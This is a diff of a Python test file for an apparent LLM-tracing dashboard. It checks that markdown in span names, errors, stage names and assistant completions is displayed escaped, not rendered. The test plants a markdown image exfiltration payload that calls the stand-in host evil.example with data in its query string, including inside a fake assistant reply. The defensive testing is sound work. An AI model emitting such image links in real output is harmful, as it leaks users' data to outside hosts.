@@ -156,13 +156,14 @@ def test_trace_page_shows_waterfall_error_and_chat_messages(sqlite_url, monkeypa
     assert f"trace={traffic.error_trace_id}" in at.code[-1].value
 
 
-def test_telemetry_on_the_trace_and_sessions_pages_is_shown_as_sent(tmp_path, monkeypatch):
+def test_telemetry_on_the_trace_sessions_and_changes_pages_is_shown_as_sent(tmp_path, monkeypatch):
     # Markdown images in a span name, an error or a completion made the browser fetch their
     # URLs when the trace was opened (Chromium, from outside: 7 fetches on one trace).
     image = "![x](https://evil.example/p.png?d=order-77)"
     spans = rag_trace(random.Random(3), "acme", int(time.time()) * NS, user=f"u{image}", fail=True)
     root, llm = spans[0], spans[-1]
     root.name, llm.name, llm.session_id = f"rag {image}", f"chat {image}", f"s{image}"
+    llm.stage = f"gen{image}"
     llm.events[0].attributes["exception.message"] = f"quota {image}"
     answer = [{"role": "assistant", "parts": [{"type": "text", "content": f"Sure! {image}"}]}]
     llm.attributes[attrs.GEN_AI_OUTPUT_MESSAGES] = json.dumps(answer)
@@ -183,6 +184,9 @@ def test_telemetry_on_the_trace_and_sessions_pages_is_shown_as_sent(tmp_path, mo
             t.type for block in MarkdownIt().parse(value) for t in block.children or []
         }, value
         assert literal(image) in value
+    # A metric's value is markdown too: the largest contribution to a change is a stage's name.
+    changes = _open(url, monkeypatch, "changes", by="stage")
+    assert _metrics(changes)["Largest contribution"] == f"Stage {literal(f'gen{image}')}"
 
 
 def test_trace_page_explains_an_unknown_trace(sqlite_url, monkeypatch):
